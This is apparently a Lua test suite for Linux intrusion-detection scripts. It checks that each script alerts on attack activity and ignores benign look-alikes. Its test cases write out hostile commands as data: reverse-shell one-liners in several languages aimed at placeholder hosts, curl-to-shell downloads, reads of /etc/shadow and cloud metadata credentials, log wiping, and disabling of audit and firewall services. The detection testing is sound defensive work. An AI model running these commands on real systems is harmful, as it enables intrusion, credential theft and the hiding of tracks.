-- Every script of scripts/: what it is for makes it tell, what looks alike does not, and an event of which
-- nothing is known is no error. On the real kernel: tests/e2e/test_scripts.py.
package.path = "tests/lua/?.lua;" .. package.path
local script_host = require "script_host"

-- As where they run: scripts that are not trusted are interpreted.
setup(function() jit.off() end)
teardown(function() jit.on() end)

local claimed = {}

-- --- what happens -----------------------------------------------------------------------------------

local function ancestors(host, names)
  local process
  for _, name in ipairs(names) do
    process = host:process { comm = name:match "[^/]*$":sub(1, 15), exe = name:find "^/" and name or "/usr/sbin/"
      .. name,
      args = { name }, parent = process, uid = 0, euid = 0, sid = 500 }
  end
  return process
end

-- A program is started. `fields.under`: names of its ancestors, nearest last.
local function exec(args, fields)
  return function(host)
    local own = {}
    for key, value in pairs(fields or {}) do
      own[key] = value
    end
    own.under = nil
    return host:exec(ancestors(host, fields and fields.under or { "systemd", "sshd", "bash" }), args, own)
  end
end

local function sh(text, fields)
  return exec({ "sh", "-c", text }, fields)
end

-- --- the harness ------------------------------------------------------------------------------------

local function told(host)
  return #host.alerts + #host.lines + #host.emitted
end

local function texts(host)
  local result = {}
  for _, alert in ipairs(host.alerts) do
    result[#result + 1] = alert.severity .. " " .. tostring(alert.text)
  end
  return table.concat(result, "\n") .. table.concat(host.lines, "\n")
end

local kinds = { "fork", "exec", "exit", "uid", "gid", "sid", "ptrace", "comm", "coredump", "snapshot", "lost",
  "reload", "storm" }

local function nothing_known(path)
  local host = script_host.new():load(path)
  for _, kind in ipairs(kinds) do
    host:feed(kind, {})
    host:feed(kind, { pid = 7, id = "boot-7-7", args = {}, was = {} })
    host:feed(kind, { pid = 8, id = "boot-8-8", args = { "", "", "-" }, comm = "", exe = "", cwd = "", was = {},
      parent = host:process { pid = 9 } })
    host:feed(kind, { pid = 10, id = "boot-10-10", args = { "sh", "-c" }, comm = "\0\255[%", exe = "/tmp/%s\n(deleted)",
      euid = 0, uid = 0, was = { euid = 7, uid = 7, comm = "%" }, signal = 11, duration = 99, cpu_user = 99,
        tracer = 10,
      phase = "sum", children = 1e6, parent = host:process { pid = 11, args = { "%" }, comm = "%" } })
    host:feed(kind, { pid = 12, args = { "bash", "-c", "'\"$(`|><&;" .. ("\\"):rep(99) } })
    host:feed(kind, { pid = 13, args = { "sh", "-c", ("(x>"):rep(30000) } })
  end
  host:advance(100000)
  host:finish()
end

-- `claims`: hits and misses, each { [what] = act }; `options` for all of them; a hit may be
-- { act, options = {...}, severity = "high", says = "text" }.
local function script(name, claims)
  claimed[name] = claims
  local path = "scripts/" .. name .. ".lua"
  local function run(case)
    local act = type(case) == "table" and case[1] or case
    local options = type(case) == "table" and case.options or claims.options
    local host = script_host.new():load(path, options)
    act(host)
    return host, type(case) == "table" and case or {}
  end
  describe(name, function()
    for what, case in pairs(claims.hits) do
      it("tells of " .. what, function()
        local host, wanted = run(case)
        assert.is_true(told(host) > 0, "said nothing")
        if wanted.severity then
          assert.equal(wanted.severity, host.alerts[1].severity, texts(host))
        end
        if wanted.says then
          assert.is_truthy(texts(host):find(wanted.says, 1, true), texts(host))
        end
        for _, alert in ipairs(host.alerts) do
          assert.is_truthy(alert.text and alert.tags and alert.tags[1]:find "^attack%.t%d+", "a text and tags")
        end
      end)
    end
    for what, case in pairs(claims.misses) do
      it("is silent about " .. what, function()
        local host = run(case)
        assert.equal(0, told(host), texts(host))
      end)
    end
    it("takes events of which nothing is known", function()
      nothing_known(path)
    end)
  end)
end

-- --- the scripts ------------------------------------------------------------------------------------

local peer = { sockets = { { fd = 0, family = "inet", type = "tcp", remote_ip = "10.9.8.7", remote_port = 4444 } } }

script("reverse-shell", {
  hits = {
    ["nc -e"] = exec { "nc", "-e", "/bin/sh", "example.com", "22" },
    ["nc with flags in one"] = exec { "nc.traditional", "-nve", "/bin/bash", "10.0.0.1", "80" },
    ["ncat --sh-exec"] = exec { "/usr/bin/ncat", "10.0.0.1", "443", "--sh-exec", "/bin/bash" },
    ["nc under another name of its file"] = exec({ "kworker", "-e", "/bin/sh", "h", "1" },
      { exe = "/usr/bin/nc.traditional" }),
    ["busybox nc"] = exec({ "busybox", "nc", "10.0.0.1", "80", "-e", "/bin/sh" }),
    ["socat"] = exec { "socat", "TCP:10.0.0.1:4444", "EXEC:'bash -li',pty,stderr,setsid" },
    ["bash and /dev/tcp"] = sh "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    ["a loop over /dev/tcp"] = exec { "bash", "-c",
      "exec 5<>/dev/tcp/1.2.3.4/44;cat <&5|while read l;do $l 2>&5 >&5;done" },
    ["a named pipe and nc"] = sh "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    ["a named pipe and openssl"] = sh "mkfifo /tmp/s; sh -i </tmp/s 2>&1|openssl s_client -connect h:1 >/tmp/s|sh ",
    ["python"] = exec({ "python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
      .. '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' }, { exe = "/usr/bin/python3.11" }),
    ["perl"] = exec { "perl", "-e", 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,'
      .. 'inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");' },
    ["ruby"] = exec { "ruby", "-rsocket", "-e",
      'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d",f)' },
    ["php"] = exec { "php", "-r", '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");' },
    ["awk"] = exec { "awk",
      'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1){do{ s |& getline c; while ((c |& getline) > 0)'
      .. ' print $0 |& s; system(c)} while(c != "exit")}}' },
    ["a shell whose input is a connection"] = { exec({ "sh", "-i" }, { answers = peer }), says = "10.9.8.7 port 4444",
      severity = "critical" },
    ["a shell without arguments whose input is one"] = exec({ "/bin/bash" }, { answers = peer }),
  },
  misses = {
    ["a port check"] = sh "timeout 1 bash -c '</dev/tcp/localhost/5432'",
    ["a request by a shell"] = sh "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
    ["a port scan"] = exec { "bash", "-c",
      "for port in {1..9}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port); done" },
    ["nc that looks whether a port is open"] = exec { "nc", "-z", "host", "22" },
    ["nc with TLS"] = exec { "nc", "-c", "host", "443" },
    ["a forwarder"] = exec { "socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.1:80" },
    ["python with a socket"] = exec { "python3", "-c", "import socket; print(socket.gethostname())" },
    ["python that runs a shell"] = exec { "python3", "-c", "import os; os.system('/bin/sh build.sh')" },
    ["a shell at a terminal"] = exec({ "bash", "-i" }, { answers = { sockets = {} } }),
    ["a shell with a local socket"] = exec({ "sh" }, { answers = { sockets = { { fd = 0, family = "unix",
      path = "/run/x" } } } }),
    ["a script of a service with a connection"] = exec({ "sh", "/usr/lib/cgi/x.sh" }, { answers = peer }),
    ["what is left out"] = { exec { "nc", "-e", "/bin/sh", "lab" }, options = { ignore = { " lab" } } },
  },
})

script("shell-under-server", {
  hits = {
    ["a shell under nginx"] = { exec({ "sh", "-c", "id; uname -a" }, { under = { "systemd", "nginx", "nginx" } }),
      says = "nginx" },
    ["one under a php-fpm with a version"] = exec({ "sh", "-c", "wget x" }, { under = { "php-fpm8.2" } }),
    ["curl under postgres"] = exec({ "curl", "http://x/a" }, { under = { "postgres", "postgres" } }),
    ["python under redis, shells between"] = exec({ "python3", "-c", "1" }, { under = { "redis-server", "sh", "sh" } }),
    ["a shell under tomcat"] = function(host)
      local java = host:process { comm = "java", args = { "java", "-Dcatalina.base=/srv" },
        exe = "/usr/lib/jvm/bin/java" }
      host:exec(java, { "bash", "-c", "id" })
    end,
    ["a server of one's own"] = { exec({ "sh", "-c", "id" }, { under = { "webd" } }),
      options = { servers = { "webd" } } },
  },
  misses = {
    ["a shell elsewhere"] = exec { "bash", "-c", "id" },
    ["mail by PHP"] = exec({ "sh", "-c", "/usr/sbin/sendmail -t -i" }, { under = { "php-fpm8.2" } }),
    ["piped logs"] = exec({ "sh", "-c", "/usr/bin/rotatelogs /var/log/x 86400" }, { under = { "apache2" } }),
    ["a server that starts its workers"] = exec({ "nginx", "-g", "daemon off;" }, { under = { "systemd", "sh" } }),
    ["a shell that starts a server"] = exec({ "sh", "-c", "nginx" }, { under = { "systemd" } }),
    ["java without an application server"] = exec({ "sh", "-c", "id" }, { under = { "java" } }),
  },
})

script("exec-from-writable", {
  hits = {
    ["a program in /tmp"] = { exec { "/tmp/packed_bin" }, severity = "medium" },
    ["one in /dev/shm"] = exec { "/dev/shm/.x/kworker" },
    ["one in memory"] = { exec({ "ls" }, { exe = "/memfd:a", deleted = true }), severity = "high" },
    ["one without a file"] = { exec({ "/usr/bin/x" }, { deleted = true }), severity = "high" },
    ["a script in /tmp"] = exec { "sh", "/tmp/art.sh" },
    ["a script in /var/tmp with options before"] = exec({ "bash", "-x", "/var/tmp/.hidden/x" }),
    ["a directory of one's own"] = { exec { "/scratch/x" }, options = { dirs = { "/scratch/" } } },
  },
  misses = {
    ["a program in /usr"] = exec { "/usr/bin/tmp" },
    ["a directory that begins alike"] = exec { "/tmpfiles/x" },
    ["the test programs of go"] = exec { "/tmp/go-build123/b001/x.test" },
    ["runc's copy of itself"] = exec({ "runc", "init" }, { exe = "/memfd:runc_cloned:/proc/self/exe", deleted = true }),
    ["a file in /tmp that is an argument"] = exec { "sh", "build.sh", "/tmp/out" },
    ["a shell that is told about /tmp"] = sh "ls /tmp/x",
    ["scripts when they are not asked for"] = { exec { "sh", "/tmp/art.sh" }, options = { scripts = false } },
  },
})

local function becomes_root(fields, then_)
  return function(host)
    local process = host:process { comm = "bash", exe = fields.exe or "/usr/bin/bash", args = { "bash" }, uid = 1000,
      parent = ancestors(host, { "sshd" }) }
    host:feed("uid", { pid = process.pid, id = process.id, comm = process.comm, exe = process.exe, args = process.args,
      parent = process.parent, euid = 0, uid = fields.uid or 1000, was = { euid = fields.before or 1000,
        uid = fields.was or 1000 } })
    if then_ then
      host:feed("exec", { pid = process.pid, id = process.id, comm = then_:match "[^/]*$", exe = then_,
        args = { then_ },
        euid = 0, uid = 1000, parent = process.parent })
    end
    host:advance(1)
  end
end

script("setuid-gain", {
  hits = {
    ["a planted setuid program"] = { becomes_root({}, "/home/u/.x/suid"), severity = "critical",
      says = "by the program" },
    ["an unknown one of the system"] = { becomes_root({}, "/usr/bin/find"), severity = "high" },
    ["a change without an exec"] = { becomes_root {}, says = "by a call" },
    ["a planted sudo"] = becomes_root({}, "/tmp/sudo"),
  },
  misses = {
    ["sudo"] = becomes_root({}, "/usr/bin/sudo"),
    ["ping"] = becomes_root({}, "/bin/ping"),
    ["a service that takes root back"] = becomes_root { exe = "/usr/sbin/sshd" },
    ["root that had put its effective id aside"] = becomes_root({ was = 0 }, nil),
    ["root that stays root"] = becomes_root({ before = 0 }, "/usr/bin/x"),
    ["what one adds"] = { becomes_root({}, "/usr/bin/mytool"), options = { helpers = { "mytool" } } },
  },
})

local function attaches(tracer, target, child)
  return function(host)
    tracer.args = tracer.args or { tracer.comm }
    local from = host:process(tracer)
    target.parent = child and from or ancestors(host, { "systemd" })
    target.tracer = from.pid
    target.pid, target.id = 77, "boot-77-77"
    host:feed("ptrace", target)
  end
end

script("ptrace-across-users", {
  hits = {
    ["another user's process"] = { attaches({ comm = "x", euid = 1000 }, { comm = "sshd", euid = 0 }),
      severity = "critical" },
    ["root that reads a user's agent"] = { attaches({ comm = "gdb", euid = 0 }, { comm = "ssh-agent", euid = 1000 }),
      severity = "medium" },
    ["a stranger of the same user"] = attaches({ comm = "inject", euid = 1000 }, { comm = "firefox", euid = 1000 }),
  },
  misses = {
    ["a debugger and a process of one user"] = attaches({ comm = "gdb", euid = 1000 }, { comm = "a.out", euid = 1000 }),
    ["its own child"] = attaches({ comm = "tracer", euid = 1000 }, { comm = "a.out", euid = 1000 }, true),
    ["the crash handler"] = attaches({ comm = "apport", euid = 0 }, { comm = "x", euid = 1000 }),
    ["one that lets go"] = function(host) host:feed("ptrace", { pid = 5, tracer = 0, euid = 1000 }) end,
    ["strangers when they are not asked for"] =
      { attaches({ comm = "x", euid = 7 }, { comm = "y", euid = 7 }), options = { strangers = false } },
  },
})

script("cron-persistence", {
  hits = {
    ["a crontab from a file"] = { exec { "crontab", "/tmp/persistevil" }, severity = "medium" },
    ["one from the input"] = exec { "crontab", "-" },
    ["at"] = exec { "at", "now", "+", "1", "minute" },
    ["a shell that writes below /etc/cron.d"] = { sh "echo '* * * * * root x' > /etc/cron.d/persistevil",
      says = "/etc/cron.d/" },
    ["one that adds to root's"] = sh 'echo "x" >> /var/spool/cron/crontabs/root',
    ["tee"] = exec { "tee", "-a", "/etc/crontab" },
    ["a copy"] = exec { "cp", "-f", "x", "/etc/cron.hourly/" },
  },
  misses = {
    ["a crontab that is shown"] = exec { "crontab", "-l" },
    ["the queue of at"] = exec { "at", "-l" },
    ["a package"] = exec({ "cp", "x", "/etc/cron.d/x" }, { under = { "apt-get", "dpkg", "x.postinst" } }),
    ["a file that is read"] = sh "cat < /etc/crontab > /tmp/x",
    ["a copy from there"] = exec { "cp", "/etc/crontab", "/tmp/" },
    ["cron at work"] = exec({ "/usr/sbin/cron", "-f" }, { under = { "systemd" } }),
  },
})

script("service-persistence", {
  hits = {
    ["a unit that a shell writes"] = sh 'echo "[Unit]" > /etc/systemd/system/art.service',
    ["a unit out of /tmp"] = { exec { "systemctl", "link", "/tmp/atomic_tmp.service" }, severity = "high" },
    ["a unit that is enabled"] = { exec { "systemctl", "--now", "enable", "art.timer" }, severity = "low",
      says = "art.timer" },
    ["a transient timer"] = exec { "systemd-run", "--unit=x", "--on-calendar", "*:0/1", "/bin/sh", "-c", "x" },
    ["rc.local"] = exec { "tee", "-a", "/etc/rc.local" },
    ["a unit that is edited"] = exec { "sed", "-i", "s|ExecStart=.*|ExecStart=/x|", "/etc/systemd/system/a.service" },
    ["a script of init"] = exec { "update-rc.d", "x", "defaults" },
    ["a unit of a user"] = exec { "cp", "x.service", "/home/u/.config/systemd/user/x.service" },
  },
  misses = {
    ["the state of a unit"] = exec { "systemctl", "status", "enable.service" },
    ["a unit that is started"] = exec { "systemctl", "start", "nginx" },
    ["a package"] = exec({ "systemctl", "enable", "nginx" }, { under = { "apt-get", "dpkg", "nginx.postinst" } }),
    ["a command that runs once"] = exec { "systemd-run", "--wait", "/bin/true" },
    ["the settings of the journal"] = exec { "sed", "-i", "s/a/b/", "/etc/systemd/journald.conf" },
    ["enable when it is not asked for"] = { exec { "systemctl", "enable", "x" }, options = { enable = false } },
  },
})

script("ssh-keys", {
  hits = {
    ["a shell that adds a key"] = { sh "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", severity = "high" },
    ["one that names home by a tilde"] = sh 'echo "$k" > ~/.ssh/authorized_keys',
    ["tee"] = exec { "tee", "-a", "/home/u/.ssh/authorized_keys" },
    ["sshd's settings"] = exec { "sed", "-i", "s/#PermitRootLogin.*/PermitRootLogin yes/", "/etc/ssh/sshd_config" },
  },
  misses = {
    ["keys that are read"] = exec { "cat", "/root/.ssh/authorized_keys" },
    ["known hosts"] = sh "ssh-keyscan h >> ~/.ssh/known_hosts",
    ["cloud-init"] = exec({ "tee", "/root/.ssh/authorized_keys" }, { under = { "cloud-init" } }),
    ["a key that is made"] = exec { "ssh-keygen", "-f", "/root/.ssh/id_rsa" },
  },
})

script("shell-profile", {
  hits = {
    ["a line for .bashrc"] = { sh "echo 'x' >> ~/.bashrc", severity = "low" },
    ["a file in profile.d"] = { sh "echo '# x' >> /etc/profile.d/bash_completion.sh", severity = "medium" },
    ["a preloaded library"] = { sh "echo /tmp/T1574006.so > /etc/ld.so.preload", severity = "high" },
    ["tee and a preloaded library"] = exec { "tee", "-a", "/etc/ld.so.preload" },
    ["a hook of Python"] = sh 'echo "import os" > "$SITE_PACKAGES/atomic_hook.pth"',
  },
  misses = {
    ["a profile that is read"] = exec { "cat", "/root/.bashrc" },
    ["an account that is made"] = exec({ "cp", "/etc/skel/.bashrc", "/home/u/.bashrc" }, { under = { "useradd" } }),
    ["another file"] = sh "echo x >> ~/.bashrc.bak",
    ["users' files when they are not asked for"] = { sh "echo x >> ~/.bashrc", options = { users = false } },
  },
})

script("log-wiping", {
  hits = {
    ["rm"] = exec { "rm", "-rf", "/var/log/messages" },
    ["truncate"] = exec { "truncate", "-s", "0", "/var/log/messages" },
    ["truncate with a long option"] = exec { "truncate", "--size=0", "/var/log/security" },
    ["a shell that empties"] = sh "cat /dev/null > /var/log/messages",
    ["one that only redirects"] = sh "> /var/log/wtmp",
    ["dd"] = exec { "dd", "of=/var/log/syslog", "if=/dev/zero", "count=9" },
    ["shred"] = exec { "shred", "-u", "/var/log/auth.log" },
    ["a link to nothing"] = exec { "ln", "-sf", "/dev/null", "/root/.bash_history" },
    ["history in a shell's text"] = { exec { "bash", "-c", "set +o history; history -c" }, says = "history" },
    ["history that goes nowhere"] = exec { "bash", "-c", 'export HISTFILE="/dev/null"; whoami' },
    ["the history of bash"] = exec { "rm", "/root/.bash_history" },
    ["the journal"] = exec { "journalctl", "--vacuum-time=0" },
  },
  misses = {
    ["logrotate"] = exec({ "rm", "/var/log/x.7.gz" }, { under = { "systemd", "logrotate", "sh" } }),
    ["another file"] = exec { "rm", "-f", "/var/lib/x" },
    ["a log that is read"] = exec { "tail", "/var/log/syslog" },
    ["a program that writes its log"] = sh "make > /var/log/build.log 2>&1",
    ["a log that is put away"] = exec { "cp", "/var/log/syslog", "/backup/" },
    ["the journal that is shown"] = exec { "journalctl", "-u", "x" },
    ["history that is shown"] = exec { "bash", "-c", "history | tail" },
  },
})

script("defence-off", {
  hits = {
    ["audit that is stopped"] = exec { "systemctl", "stop", "auditd.service" },
    ["an agent that is disabled"] = exec { "systemctl", "--now", "disable", "falcon-sensor.service" },
    ["a service of old"] = exec { "service", "rsyslog", "stop" },
    ["chkconfig"] = exec { "chkconfig", "off", "cbdaemon" },
    ["rules of audit that go"] = { exec { "auditctl", "-D" }, severity = "high" },
    ["SELinux"] = exec { "setenforce", "0" },
    ["the firewall"] = exec { "ufw", "disable" },
    ["its rules"] = exec({ "iptables", "-F" }, { exe = "/usr/sbin/xtables-nft-multi" }),
    ["address randomisation"] = exec { "sysctl", "-w", "kernel.randomize_va_space=0" },
    ["the settings of audit"] = exec { "sed", "-i", "$ a #x", "/etc/audit/auditd.conf" },
    ["an agent that is killed"] = exec { "pkill", "-9", "osqueryd" },
  },
  misses = {
    ["another service"] = exec { "systemctl", "stop", "nginx" },
    ["audit that is restarted"] = exec { "systemctl", "restart", "auditd" },
    ["rules that are listed"] = exec { "iptables", "-L", "-n" },
    ["an upgrade"] = exec({ "systemctl", "stop", "rsyslog" }, { under = { "apt-get", "dpkg", "rsyslog.prerm" } }),
    ["SELinux that is asked"] = exec { "getenforce" },
    ["rules of audit that are shown"] = exec { "auditctl", "-l" },
    ["settings that are read"] = exec { "cat", "/etc/audit/auditd.conf" },
  },
})

script("who-ran-what", {
  hits = {
    ["a program at a terminal"] = { exec({ "ls", "-l" }, { tty = "pts/1", time = 1e9 }), says = "ls -l" },
    ["one that stems from a login"] = { exec({ "make" }, { loginuid = 1000, euid = 0 }), says = "1000 as 0" },
    ["a service when asked for"] = { exec({ "x" }), options = { services = true } },
  },
  misses = {
    ["a service"] = exec({ "logrotate" }, { under = { "systemd", "cron" } }),
    ["another user than the one asked for"] = { exec({ "ls" }, { loginuid = 1000 }), options = { users = { "1001" } } },
    ["what is left out"] = { exec({ "starship", "prompt" }, { tty = "pts/1" }), options = { ignore = { "starship" } } },
  },
})

local function crash(times, fields)
  return function(host)
    for _ = 1, times do
      local process = host:process { comm = "served", exe = "/usr/bin/served", args = { "served" }, euid = 7,
        parent = ancestors(host, { fields.under or "systemd" }) }
      host:exit(process, { signal = fields.signal, core = fields.core, code = fields.code })
      host:advance(fields.every or 10)
    end
  end
end

script("crash-loop", {
  hits = {
    ["three crashes within ten minutes"] = { crash(3, { signal = 11, core = true }), says = "SIGSEGV" },
    ["aborts"] = crash(3, { signal = 6 }),
    ["two when asked for"] = { crash(2, { signal = 7 }), options = { crashes = 2 } },
  },
  misses = {
    ["two crashes"] = crash(2, { signal = 11 }),
    ["a crash each day"] = crash(9, { signal = 11, every = 86400 }),
    ["one that is ended"] = crash(9, { signal = 15 }),
    ["one that fails"] = crash(9, { code = 1 }),
    ["a fuzzer's"] = crash(9, { signal = 11, under = "afl-fuzz" }),
  },
})

local function forks(count, fields)
  return function(host)
    local parent = ancestors(host, { "sshd", "bash" })
    for i = 1, count do
      local child = { comm = "bash", uid = 1000, sid = fields.sid and fields.sid(i) or 5, parent = parent }
      host:feed("fork", host:process(child))
      if fields.ends then
        host:exit(child, { code = 0 })
      end
      host:advance(fields.every or 0.001)
    end
  end
end

local function storm(fields)
  return function(host)
    fields.pid = host:process { comm = "x", parent = ancestors(host, { "bash" }) }.pid
    fields.phase, fields.uid, fields.sid = "sum", 1000, 5
    host:feed("storm", fields)
  end
end

script("fork-bomb", {
  hits = {
    ["a session that grows"] = { forks(400, {}), severity = "high", says = "400 processes more" },
    ["fewer when asked for"] = { forks(50, {}), options = { grown = 50 } },
    ["many children of one name in a storm"] = { storm { children = 900, distinct = 1 }, says = "a storm" },
  },
  misses = {
    ["a build, whose processes end"] = forks(3000, { ends = true }),
    ["slow growth"] = forks(900, { every = 0.1 }),
    ["many sessions"] = forks(900, { sid = function(i) return i end }),
    ["many children of many names in a storm"] = storm { children = 900, distinct = 40 },
  },
})

local function commands(lines, fields)
  return function(host)
    local shell = ancestors(host, fields and fields.under or { "sshd", "bash" })
    for i, line in ipairs(lines) do
      local args = {}
      for word in line:gmatch "%S+" do
        args[#args + 1] = word
      end
      host:exec(shell, args, { sid = fields and fields.sids and i or 77 })
      host:advance(fields and fields.every or 1)
    end
  end
end

local looks = { "whoami", "id", "uname -a", "cat /etc/passwd", "ip addr", "ps aux", "sudo -l", "find / -perm -4000",
  "w" }

script("recon-burst", {
  hits = {
    ["many questions of one session"] = { commands(looks), severity = "medium", says = "whoami" },
    ["fewer when asked for"] = { commands { "id", "w", "ps" }, options = { commands = 3 } },
  },
  misses = {
    ["the same question again and again"] = commands { "ps a", "ps a", "ps a", "ps a", "ps a", "ps a", "ps a",
      "ps a", "ps a" },
    ["many sessions"] = commands(looks, { sids = true }),
    ["questions over an hour"] = commands(looks, { every = 600 }),
    ["an inventory"] = commands(looks, { under = { "systemd", "facter" } }),
    ["work"] = commands { "make", "gcc x.c", "cat x.c", "ls", "git status", "vi x.c", "rm x.o", "grep x y", "tar c x" },
  },
})

local function steps(list, fields)
  return function(host)
    local shell = ancestors(host, { "sshd", "bash" })
    for _, args in ipairs(list) do
      local exe = args[1]:find "^%./" and "/home/u/" .. args[1]:sub(3) or nil
      host:exec(shell, args, { sid = 77, exe = exe })
      host:advance(fields and fields.every or 1)
    end
  end
end

script("download-and-execute", {
  hits = {
    ["a script that was fetched"] = { steps { { "curl", "-sO", "https://x/atomic.sh" }, { "chmod", "+x", "atomic.sh" },
      { "bash", "atomic.sh" } }, severity = "high", says = "curl" },
    ["a program behind -o"] = steps { { "curl", "-s", "http://x/1", "-o", "/tmp/.k" }, { "/tmp/.k" } },
    ["a program of wget"] = steps { { "wget", "-q", "http://x/a/miner?x=1" }, { "./miner" } },
    ["a file of wget -O"] = steps { { "wget", "-O", "/tmp/x", "http://h/y" }, { "sh", "/tmp/x" } },
    ["a copy by scp"] = steps { { "scp", "u@h:/tmp/tool", "." }, { "./tool" } },
    ["curl into a shell"] = { sh "curl -s https://x/pipe-to-shell.sh |bash", severity = "medium" },
    ["wget into a shell with arguments"] = sh "wget -qO- http://x | sh -s -- -y",
    ["curl into sudo"] = sh "curl -s http://x | sudo bash",
    ["what was decoded"] = { exec { "bash", "-c", "echo aWQ= | base64 -d | bash" }, says = "decoded" },
  },
  misses = {
    ["a download that is read"] = steps { { "curl", "-sO", "https://x/a.tar" }, { "tar", "xf", "a.tar" } },
    ["another script"] = steps { { "curl", "-sO", "https://x/a.sh" }, { "bash", "b.sh" } },
    ["the same name, but later"] = steps({ { "curl", "-O", "https://x/a.sh" }, { "bash", "a.sh" } }, { every = 3600 }),
    ["a download without a file"] = steps { { "curl", "https://x/api" }, { "jq", "." } },
    ["curl into another program"] = sh "curl -s http://x | jq .name",
    ["a shell that comes later"] = sh "curl -s http://x | tar x; bash build.sh",
    ["a shell script that reads what is decoded"] = sh "echo aWQ= | base64 -d > x; sh y",
    ["decoding"] = sh "base64 -d x",
    ["what is left out"] = { sh "curl https://sh.rustup.rs | sh", options = { ignore = { "sh.rustup.rs" } } },
  },
})

script("kernel-module", {
  hits = {
    ["insmod"] = { exec { "insmod", "/tmp/T1547006.ko" }, severity = "critical" },
    ["modprobe from a shell"] = { exec { "modprobe", "diamorphine" }, severity = "medium" },
    ["kmod"] = exec({ "kmod", "insert", "x" }, {}) and exec { "insmod", "x" },
    ["a file through udev"] = exec({ "insmod", "./x.ko" }, { under = { "systemd-udevd" } }),
    ["removal"] = { exec { "rmmod", "nf_tables" }, severity = "low" },
    ["modprobe of busybox"] = exec({ "busybox", "modprobe", "x" }, { comm = "busybox" }),
  },
  misses = {
    ["a list"] = exec({ "lsmod" }, { exe = "/usr/bin/kmod" }),
    ["a list of kmod"] = exec { "kmod", "list" },
    ["udev"] = exec({ "modprobe", "-b", "usbhid" }, { under = { "systemd", "systemd-udevd" } }),
    ["the kernel"] = exec({ "modprobe", "-q", "--", "net-pf-10" }, { under = { "kthreadd" } }),
    ["what would be loaded"] = exec { "modprobe", "-n", "-v", "x" },
    ["removal when it is not asked for"] = { exec { "rmmod", "x" }, options = { remove = false } },
  },
})

local function env(name, value)
  return { answers = { environ = { { name = "HOME", value = "/" }, { name = name, value = value } } } }
end

script("ld-preload", {
  hits = {
    ["a library in /tmp"] = { exec({ "ls" }, env("LD_PRELOAD", "/tmp/T1574006.so")), severity = "high" },
    ["the second of two"] = exec({ "ls" }, env("LD_PRELOAD", "libc.so.6:./x.so")),
    ["an audit library"] = exec({ "ls" }, env("LD_AUDIT", "/home/u/a.so")),
    ["a shell's text"] = sh "LD_PRELOAD=/tmp/T1574006.so ls",
    ["env"] = exec { "env", "LD_PRELOAD=/dev/shm/x.so", "ls" },
  },
  misses = {
    ["a library of the system"] = exec({ "ls" }, env("LD_PRELOAD", "/usr/lib/libfakeroot.so")),
    ["one without a directory"] = exec({ "ls" }, env("LD_PRELOAD", "libeatmydata.so")),
    ["another variable"] = exec({ "ls" }, env("LD_LIBRARY_PATH", "/tmp/x")),
    ["an empty one"] = exec({ "ls" }, env("LD_PRELOAD", "")),
    ["one that cannot be asked"] = exec { "ls" },
    ["what is beyond the limit"] = { function(host)
      exec({ "ls" }, env("HOME", "/"))(host)
      exec({ "ls" }, env("LD_PRELOAD", "/tmp/x.so"))(host)
    end, options = { per_second = 1 } },
    ["what is left out"] = { exec({ "ls" }, env("LD_PRELOAD", "/home/u/lib/x.so")),
      options = { ignore = { "/home/u/lib" } } },
  },
})

script("credential-files", {
  hits = {
    ["cat of shadow"] = { exec { "cat", "/etc/shadow" }, severity = "high", says = "/etc/shadow" },
    ["a path with dots"] = exec { "cat", "../../../../etc/shadow" },
    ["a shell that reads shadow itself"] = sh 'testcat(){ while read l; do echo "$l"; done < /etc/shadow; }',
    ["a search for keys"] = exec { "find", "/", "-name", "id_rsa" },
    ["a key that is packed"] = exec { "tar", "cz", "/home/u/.ssh/id_ed25519" },
    ["the cloud's credentials"] = exec { "find", "//.aws", "-name", "credentials", "-type", "f" },
    ["the metadata service"] = exec { "curl", "-s",
      "http://169.254.169.254/latest/meta-data/iam/security-credentials/" },
    ["memory of another process"] = exec { "dd", "if=/proc/4711/mem", "of=/tmp/x" },
    ["a known tool"] = exec { "python3", "/tmp/LaZagne/Linux/laZagne.py", "browsers" },
    ["a token of kubernetes"] = exec { "cat", "/run/secrets/kubernetes.io/serviceaccount/token" },
    ["a file that one adds"] = { exec { "cat", "/srv/token.txt" }, options = { files = { "/srv/token" } } },
  },
  misses = {
    ["ssh that uses a key"] = exec { "ssh", "-i", "/home/u/.ssh/id_rsa", "h" },
    ["a key that is made"] = exec { "ssh-keygen", "-t", "ed25519", "-f", "/home/u/.ssh/id_ed25519" },
    ["a public key"] = exec { "cat", "/home/u/.ssh/id_rsa.pub" },
    ["passwd"] = exec { "cat", "/etc/passwd" },
    ["a backup"] = exec({ "cp", "/etc/shadow", "/var/backups/" }, { under = { "cron", "rsnapshot" } }),
    ["a program of that name"] = exec { "/usr/bin/shadowconfig", "on" },
    ["memory statistics"] = exec { "cat", "/proc/meminfo" },
  },
})

script("account-commands", {
  hits = {
    ["an account"] = { exec { "useradd", "-M", "-N", "-r", "-s", "/bin/bash", "-c", "evil_account", "evil_user" },
      severity = "medium" },
    ["one in root's group"] = { exec { "useradd", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "butter" },
      severity = "high" },
    ["one with root's id"] = { exec { "useradd", "-o", "-u", "0", "toor" }, severity = "high" },
    ["sudo's group"] = { exec { "usermod", "-aG", "sudo", "art" }, severity = "high" },
    ["adduser to a group"] = { exec { "adduser", "art", "sudo" }, severity = "high" },
    ["a shell for nobody"] = exec { "chsh", "--shell", "/bin/bash", "nobody" },
    ["a password of another"] = exec { "passwd", "ARTUser" },
    ["passwords from the input"] = exec { "chpasswd" },
